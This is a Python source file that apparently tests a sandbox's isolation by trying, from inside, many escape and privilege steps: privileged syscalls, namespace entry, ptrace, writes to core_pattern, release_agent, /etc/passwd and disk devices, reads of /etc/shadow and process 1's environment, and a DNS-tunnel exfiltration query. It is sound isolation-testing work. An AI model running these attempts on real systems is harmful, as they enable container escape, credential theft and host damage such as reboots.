"""What whoever has taken over a process tries next. Runs inside: in an application, or in place of
a worker, and on a bare host, where it shows which of its attempts this kernel knows at all.

One JSON object a line and attempt: {"type": "attempt", "name", "got", "said"}. `got` is true where
the attempt has succeeded; refusals and time-outs are false. Needs nothing but the standard library.
"""

import ctypes
import errno
import json
import os
import socket
import struct
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
CALLS = {
    "x86_64": {
        "ptrace": 101,
        "mount": 165,
        "umount2": 166,
        "pivot_root": 155,
        "unshare": 272,
        "setns": 308,
        "bpf": 321,
        "userfaultfd": 323,
        "io_uring_setup": 425,
        "keyctl": 250,
        "add_key": 248,
        "perf_event_open": 298,
        "open_by_handle_at": 304,
        "kexec_load": 246,
        "init_module": 175,
        "swapon": 167,
        "reboot": 169,
        "settimeofday": 164,
        "iopl": 172,
        "process_vm_readv": 310,
        "fsopen": 430,
        "open_tree": 428,
        "fanotify_init": 300,
        "syslog": 103,
        "acct": 163,
        "clone": 56,
        "chroot": 161,
        "sethostname": 170,
        "name_to_handle_at": 303,
        "quotactl": 179,
        "pidfd_open": 434,
        "pidfd_getfd": 438,
        "setdomainname": 171,
        "lookup_dcookie": 212,
        "kcmp": 312,
        "memfd_secret": 447,
        "mount_setattr": 442,
        "clock_settime": 227,
        "vhangup": 153,
    },
    "aarch64": {
        "ptrace": 117,
        "mount": 40,
        "umount2": 39,
        "pivot_root": 41,
        "unshare": 97,
        "setns": 268,
        "bpf": 280,
        "userfaultfd": 282,
        "io_uring_setup": 425,
        "keyctl": 219,
        "add_key": 217,
        "perf_event_open": 241,
        "open_by_handle_at": 265,
        "kexec_load": 104,
        "init_module": 105,
        "swapon": 224,
        "reboot": 142,
        "settimeofday": 170,
        "process_vm_readv": 270,
        "fsopen": 430,
        "open_tree": 428,
        "fanotify_init": 262,
        "syslog": 116,
        "acct": 89,
        "clone": 220,
        "chroot": 51,
        "sethostname": 161,
        "name_to_handle_at": 264,
        "quotactl": 60,
        "pidfd_open": 434,
        "pidfd_getfd": 438,
        "setdomainname": 162,
        "kcmp": 272,
        "memfd_secret": 447,
        "mount_setattr": 442,
        "clock_settime": 112,
        "vhangup": 58,
    },
}[os.uname().machine]
NAMESPACES = {
    "mount": 0x20000,
    "cgroup": 0x2000000,
    "uts": 0x4000000,
    "ipc": 0x8000000,
    "user": 0x10000000,
    "pid": 0x20000000,
    "net": 0x40000000,
}


def call(name, *arguments):
    """A system call by number: no library stands between."""
    if name not in CALLS:
        raise OSError(errno.ENOSYS, "not on this machine")
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    answer = LIBC.syscall(ctypes.c_long(CALLS[name]), *words)
    if answer < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return answer


def in_child(function, *arguments):
    """The same in a child, which ends with it: what it changes is nobody else's. On a bare host
    the child has mounts of its own, since it may change them."""
    readable, writable = os.pipe()
    child = os.fork()
    if not child:
        code = 0
        try:
            if "--on-host" in sys.argv:
                call("unshare", NAMESPACES["mount"])
            function(*arguments)
        except OSError as error:
            code = error.errno or 255
        except BaseException:
            code = 255
        os.write(writable, bytes([code]))
        os._exit(0)
    os.close(writable)
    said = os.read(readable, 1)
    os.close(readable)
    _, status = os.waitpid(child, 0)
    if not said:
        raise OSError(errno.EPERM, "the child was killed: status %d" % status)
    if said[0]:
        raise OSError(said[0], os.strerror(said[0]) if said[0] < 255 else "failed")


def kernel_attempts():
    """Doors into the kernel, each with arguments that it would take."""
    buffer = ctypes.create_string_buffer(4096)
    yield "mount tmpfs", lambda: in_child(mount, b"none", b"/tmp", b"tmpfs")
    yield "mount proc", lambda: in_child(mount, b"proc", b"/tmp", b"proc")
    yield "mount cgroup", lambda: in_child(mount, b"cgroup", b"/tmp", b"cgroup2")
    yield "remount the root writable", lambda: in_child(mount, b"none", b"/", None, 32)
    yield "bind the root elsewhere", lambda: in_child(mount, b"/", b"/tmp", None, 4096)
    yield "unmount /proc", lambda: in_child(call, "umount2", b"/proc", 2)
    yield "pivot_root", lambda: in_child(call, "pivot_root", b".", b".")
    yield "fsopen", lambda: in_child(call, "fsopen", b"tmpfs", 0)
    yield "open_tree", lambda: in_child(call, "open_tree", -100, b"/", 1)
    yield "chroot", lambda: in_child(call, "chroot", b"/tmp")
    for name, flag in NAMESPACES.items():
        yield "unshare " + name, lambda flag=flag: in_child(call, "unshare", flag)
    yield "clone a user namespace", lambda: in_child(clone, 0x10000000)
    yield "enter the namespaces of process 1", lambda: in_child(enter_first)
    yield "ptrace process 1", lambda: in_child(call, "ptrace", 0x4206, 1, 0, 0)
    yield "ptrace a child", lambda: in_child(trace_child)
    yield "read another process's memory", lambda: in_child(read_parent, buffer)
    yield "pidfd_getfd", lambda: in_child(steal_descriptor)
    yield "kcmp", lambda: in_child(call, "kcmp", os.getppid(), os.getpid(), 0, 0, 0)
    yield "bpf", lambda: in_child(bpf_map, buffer)
    yield "userfaultfd", lambda: in_child(call, "userfaultfd", 0x80000)
    yield "io_uring", lambda: in_child(call, "io_uring_setup", 4, ctypes.create_string_buffer(256))
    yield "keyctl", lambda: in_child(call, "keyctl", 0, -3, 1, 0, 0)
    yield "add_key", lambda: in_child(call, "add_key", b"user", b"town", b"x", 1, -2)
    yield "perf_event_open", lambda: in_child(perf)
    yield "open_by_handle_at", lambda: in_child(open_by_handle)
    yield "fanotify", lambda: in_child(call, "fanotify_init", 4, 0)
    yield "the kernel's log", lambda: in_child(call, "syslog", 3, buffer, 4096)
    yield "sethostname", lambda: in_child(call, "sethostname", b"town", 4)
    yield "setdomainname", lambda: in_child(call, "setdomainname", b"town", 4)
    yield "raw packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768).close()
    yield "raw ICMP", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()
    yield "change an interface", lambda: in_child(add_address)
    yield "a device node", lambda: in_child(make_device)
    yield "a device node of a disk", lambda: in_child(make_device, 0o060000, 254)
    yield "a setuid file of root's", lambda: in_child(own_setuid)
    yield "raise a limit", lambda: in_child(raise_limit)
    yield "be another user", lambda: in_child(os.setuid, 12_345_678)


def deadly_attempts():
    """Those that would harm a host where they succeed: nobody tries them there."""
    buffer = ctypes.create_string_buffer(4096)
    moment = struct.pack("ll", 1, 0)
    yield "kexec_load", lambda: call("kexec_load", 0, 0, 0, 0)
    yield "init_module", lambda: call("init_module", buffer, 4096, b"")
    yield "swapon", lambda: call("swapon", b"/dev/null", 0)
    yield "reboot", lambda: call("reboot", 0xFEE1DEAD, 672274793, 0, 0)
    yield "settimeofday", lambda: call("settimeofday", moment, 0)
    yield "clock_settime", lambda: call("clock_settime", 0, moment)
    yield "acct", lambda: call("acct", b"/tmp/acct")
    yield "iopl", lambda: call("iopl", 3)
    yield "quotactl", lambda: call("quotactl", 0x80000100, b"/dev/null", 0, 0)
    for path, text in (
        ("/proc/sys/kernel/core_pattern", "|/tmp/x"),
        ("/proc/sys/kernel/modprobe", "/tmp/x"),
        ("/proc/sys/kernel/hostname", "town"),
        ("/proc/sys/net/ipv4/ip_forward", "1"),
        ("/proc/sys/net/ipv4/conf/all/forwarding", "1"),
        ("/proc/sys/vm/overcommit_memory", "1"),
        ("/proc/sysrq-trigger", "h"),
        ("/proc/1/oom_score_adj", "-1000"),
        ("/proc/self/oom_score_adj", "-1000"),
        ("/proc/self/uid_map", "0 0 1"),
        ("/proc/1/mem", "x"),
        ("/sys/kernel/uevent_helper", "/tmp/x"),
        ("/sys/fs/cgroup/release_agent", "/tmp/x"),
        ("/sys/fs/cgroup/cgroup.procs", "0"),
        ("/sys/fs/cgroup/memory/cgroup.procs", "0"),
        ("/sys/fs/cgroup/unified/cgroup.procs", "0"),
        ("/sys/power/state", "mem"),
        ("/usr/bin/town", "x"),
        ("/etc/passwd", "x"),
        ("/town", "x"),
        ("/dev/mem", "x"),
        ("/dev/kmsg", "x"),
        ("/dev/sda", "x"),
        ("/dev/vda", "x"),
    ):
        yield "write " + path, lambda path=path, text=text: write(path, text)
    for path in (
        "/proc/kcore",
        "/proc/kallsyms_raw",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/vda",
        "/proc/1/environ",
        "/proc/1/mem",
        "/etc/shadow",
        "/proc/keys",
        "/proc/timer_list",
        "/sys/kernel/debug/x",
        "/sys/firmware/efi/vars",
        "/run/netns",
        "/run/parapet-demo",
        "/run/systemd",
    ):
        yield "read " + path, lambda path=path: read(path)
    yield "find the host behind /proc/1/root", lambda: find_host("/proc/1/root")
    yield "find the host behind the working directory", lambda: find_host("/proc/1/cwd")
    yield "find the host by ..", lambda: find_host("/" + "../" * 40)
    yield "see a process of the host", see_host_process
    yield "run from /tmp", run_from_tmp


def mount(source, target, kind, flags=0):
    call("mount", source, target, kind or 0, flags, 0)


def clone(flag):
    pid = call("clone", flag | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


def enter_first():
    handle = os.open("/proc/1/ns/net", os.O_RDONLY)
    own = os.stat("/proc/self/ns/net").st_ino
    if os.fstat(handle).st_ino == own:
        # Its own already: nothing to gain there, so what is asked is its user namespace's door.
        handle = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    call("setns", handle, 0)


def trace_child():
    child = os.fork()
    if not child:
        import time

        time.sleep(5)
        os._exit(0)
    try:
        call("ptrace", 0x4206, child, 0, 0)
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)


def read_parent(buffer):
    class Span(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    mine = Span(ctypes.addressof(buffer), 16)
    theirs = Span(ctypes.addressof(buffer), 16)
    call("process_vm_readv", os.getppid(), ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)


def steal_descriptor():
    handle = call("pidfd_open", os.getppid(), 0)
    call("pidfd_getfd", handle, 0, 0)


def bpf_map(buffer):
    ctypes.memset(buffer, 0, 4096)
    struct.pack_into("IIII", buffer, 0, 2, 4, 4, 1)
    call("bpf", 0, buffer, 64)


def perf():
    attributes = ctypes.create_string_buffer(120)
    struct.pack_into("IIQ", attributes, 0, 1, 120, 0)
    # The whole machine, which is not one's own business.
    call("perf_event_open", attributes, -1, 0, -1, 0)


def open_by_handle():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
    mounted = ctypes.c_int()
    call("name_to_handle_at", -100, b"/", handle, ctypes.byref(mounted), 0)
    root = os.open("/", os.O_RDONLY)
    call("open_by_handle_at", root, handle, 0)


def add_address():
    """RTM_NEWADDR on the loopback: an address of another network."""
    link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack("BBBBi", 2, 24, 0, 0, 1)
    body += struct.pack("HH4s", 8, 2, bytes([198, 51, 100, 99]))
    link.send(struct.pack("IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)
    answer = link.recv(4096)
    code = struct.unpack_from("i", answer, 16)[0]
    if code:
        raise OSError(-code, os.strerror(-code))


def make_device(kind=0o020000, major=1):
    path = writable() + "/node"
    os.mknod(path, kind | 0o666, os.makedev(major, 3 if major == 1 else 0))
    try:
        os.close(os.open(path, os.O_RDONLY))
    finally:
        os.unlink(path)


def own_setuid():
    """A setuid file is root's only where its owner is: inside, root is a name."""
    path = writable() + "/setuid"
    with open("/proc/self/uid_map") as file:
        outside = int(file.read().split()[1])
    with open(path, "w") as file:
        file.write("x")
    try:
        os.chown(path, 0, 0)
        os.chmod(path, 0o4755)
        if outside:
            raise OSError(errno.EPERM, "it belongs to host user %d" % outside)
    finally:
        os.unlink(path)


def raise_limit():
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard + 1))


def writable():
    for place in ("/opt/aws/panorama/storage", "/tmp"):
        if os.access(place, os.W_OK):
            return place
    raise OSError(errno.EROFS, "nothing is writable")


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def read(path):
    if os.path.isdir(path):
        return os.listdir(path)
    with open(path, "rb") as file:
        if not file.read(16):
            raise OSError(errno.ENODATA, "it is empty")


def find_host(place):
    """The directory of the real root that no sandbox has."""
    if not set(os.listdir(place)) & {"root", "home", "boot", "work"}:
        raise OSError(errno.ENOENT, "only what is inside: %s" % sorted(os.listdir(place)))


def see_host_process():
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    for pid in pids:
        try:
            with open("/proc/%d/comm" % pid) as file:
                name = file.read().strip()
        except OSError:
            continue
        if name in ("parapet", "systemd", "kthreadd", "parapet-launche") and pid > 1:
            return name
    raise OSError(errno.ESRCH, "none among %s" % sorted(pids))


def run_from_tmp():
    path = "/tmp/town"
    with open(path, "w") as file:
        file.write("#!/bin/sh\n")
    os.chmod(path, 0o755)
    if os.spawnv(os.P_WAIT, path, [path]):
        raise OSError(errno.EACCES, "it does not run")


def network_attempts(targets):
    """Everybody that the town has, by TCP and UDP, and names by every way there is."""
    for name, (host, port) in targets["tcp"].items():
        yield "tcp to " + name, lambda host=host, port=port: connect(host, port)
    for name, (host, port) in targets["udp"].items():
        yield "udp to " + name, lambda host=host, port=port: ask(host, port)
    for index, name in enumerate(targets["names"]):
        yield "look up %d: %s" % (index, name), lambda name=name: look_up(name)
    for host in targets["resolvers"]:
        yield "a DNS tunnel through " + host, lambda host=host: tunnel(host)
    for name in targets["abstract"]:
        yield "the host's socket @" + name, lambda name=name: connect_local("\0" + name)
    for path in targets.get("files", []):
        for place in ("", "/proc/1/root", "/proc/self/cwd" + "/.." * 20):
            yield "read " + place + path, lambda path=place + path: read(path)
    for path in targets.get("sockets", []):
        for place in ("", "/proc/1/root"):
            yield "the socket " + place + path, lambda path=place + path: connect_file(path)
    if targets.get("only"):
        return
    for family, number in (
        ("AF_VSOCK", 40),
        ("AF_BLUETOOTH", 31),
        ("AF_ALG", 38),
        ("AF_CAN", 29),
        ("AF_NETLINK audit", 16),
    ):
        yield "a socket of " + family, lambda number=number: other_family(number)


def connect(host, port):
    with socket.create_connection((host, port), timeout=2) as stream:
        stream.sendall(b"town")


def ask(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(1)
        sender.connect((host, port))
        sender.send(b"town")
        sender.recv(16)


def look_up(name):
    return socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)[0][4][0]


def tunnel(host):
    """A question whose name carries what is to be smuggled; any answer is a way out."""
    label = b"736563726574"
    question = b"".join(bytes([len(part)]) + part for part in (label, b"tunnel", b"example"))
    query = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + question + b"\0" + b"\0\x10\0\x01"
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(1)
        sender.connect((host, 53))
        sender.send(query)
        answer = sender.recv(512)
        if answer[3] & 15:
            raise OSError(
                errno.ECONNREFUSED, "answered with code %d, by our side" % (answer[3] & 15)
            )


def connect_local(path, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_UNIX, kind) as stream:
        stream.settimeout(2)
        stream.connect(path)


def connect_file(path):
    """By the last part of its path, since addresses are short; of whichever kind it is."""
    os.chdir(os.path.dirname(path))
    name = os.path.basename(path)
    try:
        connect_local(name)
    except OSError as error:
        if error.errno != errno.EPROTOTYPE:
            raise
        connect_local(name, socket.SOCK_SEQPACKET)


def other_family(number):
    kind = socket.SOCK_SEQPACKET if number == 38 else socket.SOCK_RAW
    kind = socket.SOCK_STREAM if number == 40 else kind
    socket.socket(number, kind, 9 if number == 16 else 1 if number == 29 else 0).close()


def attempt_all(attempts, report, beside=1):
    """Tries everything, each in a child: a filter may end whoever tries. So many at a time, since
    most of a network's refusals are silence."""
    begun = []
    for name, function in attempts:
        if len(begun) == beside:
            report(*finish(*begun.pop(0)))
        begun.append((name, *begin(function)))
    for one in begun:
        report(*finish(*one))


def begin(function):
    """A child that tries; where it will say what came of it."""
    readable, writable = os.pipe()
    child = os.fork()
    if not child:
        try:
            got, said = True, str(function())
        except (OSError, LookupError, ValueError) as error:
            code = errno.errorcode.get(getattr(error, "errno", 0) or 0, type(error).__name__)
            got, said = False, "%s: %s" % (code, error)
        os.write(writable, json.dumps([got, said[:160]]).encode())
        os._exit(0)
    os.close(writable)
    return child, readable


def finish(name, child, readable):
    """Name, success and words of an attempt that has ended."""
    said = os.read(readable, 4096)
    os.close(readable)
    _, status = os.waitpid(child, 0)
    return (name, *(json.loads(said.decode()) if said else (False, "ended: %d" % status)))


def main():
    """Inside: into the events of the application, or standard error of a worker, of which an
    agent keeps few lines: there only the number of attempts, and those that got through."""
    here = os.path.dirname(os.path.abspath(__file__))
    events = "/opt/aws/panorama/logs/events.jsonl"
    quiet = "--summary" in sys.argv or SUMMARY
    output = sys.stderr if quiet or "--on-host" in sys.argv else open(events, "a")
    if quiet:
        say_hello(HELLO)
    targets = TARGETS
    if targets is None:
        with open(os.path.join(here, "targets.json")) as file:
            targets = json.load(file)
    tried = []

    def report(name, got, said):
        line = {"type": "attempt", "name": name, "got": got, "said": said[:160]}
        tried.append(line)
        if not quiet:
            output.write(json.dumps(line) + "\n")
            output.flush()

    attempt_all(network_attempts(targets), report, beside=16)
    whole = not targets.get("only")
    if whole:
        attempt_all(kernel_attempts(), report)
    if whole and "--on-host" not in sys.argv:
        attempt_all(deadly_attempts(), report)
    got = [line["name"] for line in tried if line["got"]]
    output.write(json.dumps({"type": "end", "tried": len(tried), "got": got}) + "\n")
    output.flush()


def say_hello(version):
    """A worker's first packet; from then on the agent reads its standard error."""
    header = json.dumps({"version": version}).encode()
    channel = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET, fileno=3)
    channel.send(struct.pack("<I", len(header)) + header)
    channel.detach()


# Set where the file stands alone, in place of a worker.
TARGETS, SUMMARY, HELLO = None, False, ""

if __name__ == "__main__":
    main()
